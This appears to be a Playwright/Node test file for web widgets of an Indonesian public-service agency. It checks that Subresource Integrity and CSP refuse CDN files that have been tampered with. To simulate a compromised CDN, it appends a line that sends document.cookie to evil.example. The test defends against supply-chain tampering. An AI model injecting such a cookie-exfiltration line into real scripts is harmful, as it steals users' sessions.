// The widgets from a CDN with Subresource Integrity (issue 20, item 5), in Chromium: the agency page on one origin,
// the release folder dist/cdn/<version>/ on a second (with CORS and immutable caching), the API on a third. The page
// pastes what `scripts/cdn-snippet.mjs` prints — an import map whose `integrity` covers the lazily loaded files, and
// the script with `integrity` and `crossorigin` — under a CSP that lets in only the CDN and that import map. The
// untampered release works, its lazy files included; a tampered script is refused (no widget runs, and the page's
// own script sees the refusal); a tampered lazy file is refused too (the widget stays in Bahasa Indonesia).
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { extname, join, normalize } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { appErrors, newPage, useDemo } from '../kit/browser.mjs';
import { playwrightUi, resident } from '../kit/resident.mjs';
import { freePort } from '../kit/server.mjs';
import { cdnSnippet } from '../../scripts/cdn-snippet.mjs';

const integrity = JSON.parse(readFileSync('dist/integrity.json', 'utf8'));
const RELEASE = `dist/cdn/${integrity.version}`;
const TYPES = { '.js': 'text/javascript; charset=utf-8', '.css': 'text/css', '.map': 'application/json' };

/** Files served changed from the release: name → text appended (what a compromised CDN or a proxy might do). */
const tampered = new Map();

/** The CDN: the release folder under /mpp-widgets/<version>/, as docs/embedding.md asks (CORS, immutable). */
function cdn(port) {
  return createServer((req, res) => {
    const name = new URL(req.url, 'http://x').pathname.replace(`/mpp-widgets/${integrity.version}/`, '');
    const file = normalize(join(RELEASE, name));
    if (!file.startsWith(`${RELEASE}/`) || !existsSync(file)) return res.writeHead(404).end();
    res.writeHead(200, {
      'Content-Type': TYPES[extname(file)] ?? 'application/octet-stream',
      'Access-Control-Allow-Origin': '*',
      'Cache-Control': 'public, max-age=31536000, immutable',
    });
    res.end(readFileSync(file, 'utf8') + (tampered.get(name) ?? ''));
  }).listen(port, '127.0.0.1');
}

/** What the page's own script does before the widgets' script: notice a refused widget script and say so. */
const PAGE_SCRIPT = `addEventListener('error', (event) => {
  const script = event.target;
  if (script instanceof HTMLScriptElement && script.src.includes('/mpp-widgets/')) {
    document.getElementById('fallback').textContent = 'Layanan MPP tidak dapat dimuat. Kunjungi mpp.tanjungpinangkota.go.id.';
  }
}, true);`;

const page = { csp: '', html: '' };
function site(port) {
  return createServer((req, res) => {
    if (req.url === '/page.js') {
      res.writeHead(200, { 'Content-Type': 'text/javascript' });
      return res.end(PAGE_SCRIPT);
    }
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Content-Security-Policy': page.csp });
    res.end(page.html);
  }).listen(port, '127.0.0.1');
}

const [sitePort, cdnPort] = await Promise.all([freePort(), freePort()]);
const SITE = `http://127.0.0.1:${sitePort}`;
const BASE = `http://127.0.0.1:${cdnPort}/mpp-widgets/${integrity.version}`;
process.env.MPP_ALLOWED_ORIGINS = SITE;
const env = useDemo();

const servers = [];
before(() => servers.push(cdn(cdnPort), site(sitePort)));
after(() => Promise.all(servers.map((s) => new Promise((r) => s.close(r)))));

/** The agency page with the snippet for the all-in script, in `lang`. */
function setPage(lang) {
  const snippet = cdnSnippet({ base: BASE, script: 'mpp-widgets.js', apiBase: env.demo.api, integrity });
  page.csp =
    `default-src 'self'; script-src 'self' ${new URL(BASE).origin} ${snippet.cspSource}; ` +
    `connect-src 'self' ${env.demo.origin}; style-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html`;
  page.html = `<!doctype html><html lang="${lang}"><head><meta charset="utf-8">
    <script src="/page.js"></script>
    ${snippet.html}</head>
    <body><h1>Disdukcapil</h1><p id="fallback" role="status"></p>
    <mpp-service-finder query="akta"></mpp-service-finder><mpp-queue-booking loading="eager"></mpp-queue-booking></body></html>`;
}

const refusals = (record) => record.console.filter((l) => /integrity/i.test(l));
const defined = (p) => p.evaluate(() => Boolean(customElements.get('mpp-service-finder')));

describe('the widgets from a CDN with integrity', () => {
  it('the release as built: runs from the second origin, its lazy files checked by the import map and loaded', async () => {
    tampered.clear();
    setPage('en');
    const { page: p, context, record } = await newPage(env.browser);
    const lazyLoaded = [];
    p.on('response', (r) => /\.(en|finish-steps)\.js$/.test(r.url()) && lazyLoaded.push(`${r.status()} ${r.url()}`));
    await p.goto(`${SITE}/`);
    const finder = p.locator('mpp-service-finder');
    // English comes from the lazily loaded mpp-widgets.en.js, through the import map's integrity.
    await finder.getByRole('heading', { name: 'Find an MPP service' }).waitFor();
    // The catalogue comes in English too (Accept-Language from the page's lang).
    await finder.getByRole('button', { name: 'Birth Certificate' }).waitFor();
    // Booking fetches its second half, also through the import map: its identity fields come with it.
    const person = resident(playwrightUi(p.locator('mpp-queue-booking')), 'en');
    await person.chooseService();
    await person.continue(person.words.dayQuestion);
    await person.answerUpToIdentity();
    await p.locator('mpp-queue-booking').getByLabel('NIK').waitFor();
    assert.deepEqual(lazyLoaded.sort(), [`200 ${BASE}/mpp-widgets.en.js`, `200 ${BASE}/mpp-widgets.finish-steps.js`]);
    assert.equal(await p.locator('#fallback').textContent(), '');
    assert.deepEqual(refusals(record), []);
    assert.deepEqual(record.violations, [], 'CSP violations');
    assert.deepEqual(record.errors, []);
    assert.deepEqual(appErrors(record), []);
    await context.close();
  });

  it('a tampered script is refused: no widget runs, and the page can tell', async () => {
    tampered.clear();
    tampered.set('mpp-widgets.js', '\nfetch("https://evil.example/?"+document.cookie);');
    setPage('id');
    const { page: p, context, record } = await newPage(env.browser);
    await p.goto(`${SITE}/`);
    await p.getByRole('status').getByText('Layanan MPP tidak dapat dimuat.').waitFor();
    assert.equal(await defined(p), false);
    assert.match(refusals(record).join('\n'), /mpp-widgets\.js.*has been blocked|valid digest/);
    assert.equal(record.requests.filter((r) => r.url.includes('evil.example')).length, 0);
    await context.close();
  });

  it('a tampered lazy file is refused: the English strings do not run, the widget stays in Bahasa Indonesia', async () => {
    tampered.clear();
    tampered.set('mpp-widgets.en.js', '\nfetch("https://evil.example/");');
    setPage('en');
    const { page: p, context, record } = await newPage(env.browser);
    const fellBack = p.waitForEvent('console', (m) => /mpp-widgets: showing Bahasa Indonesia/.test(m.text()));
    await p.goto(`${SITE}/`);
    await fellBack;
    await p.locator('mpp-service-finder').getByRole('heading', { name: 'Cari layanan MPP' }).waitFor();
    assert.match(refusals(record).join('\n'), /mpp-widgets\.en\.js/);
    assert.equal(record.requests.filter((r) => r.url.includes('evil.example')).length, 0);
    await context.close();
  });
});
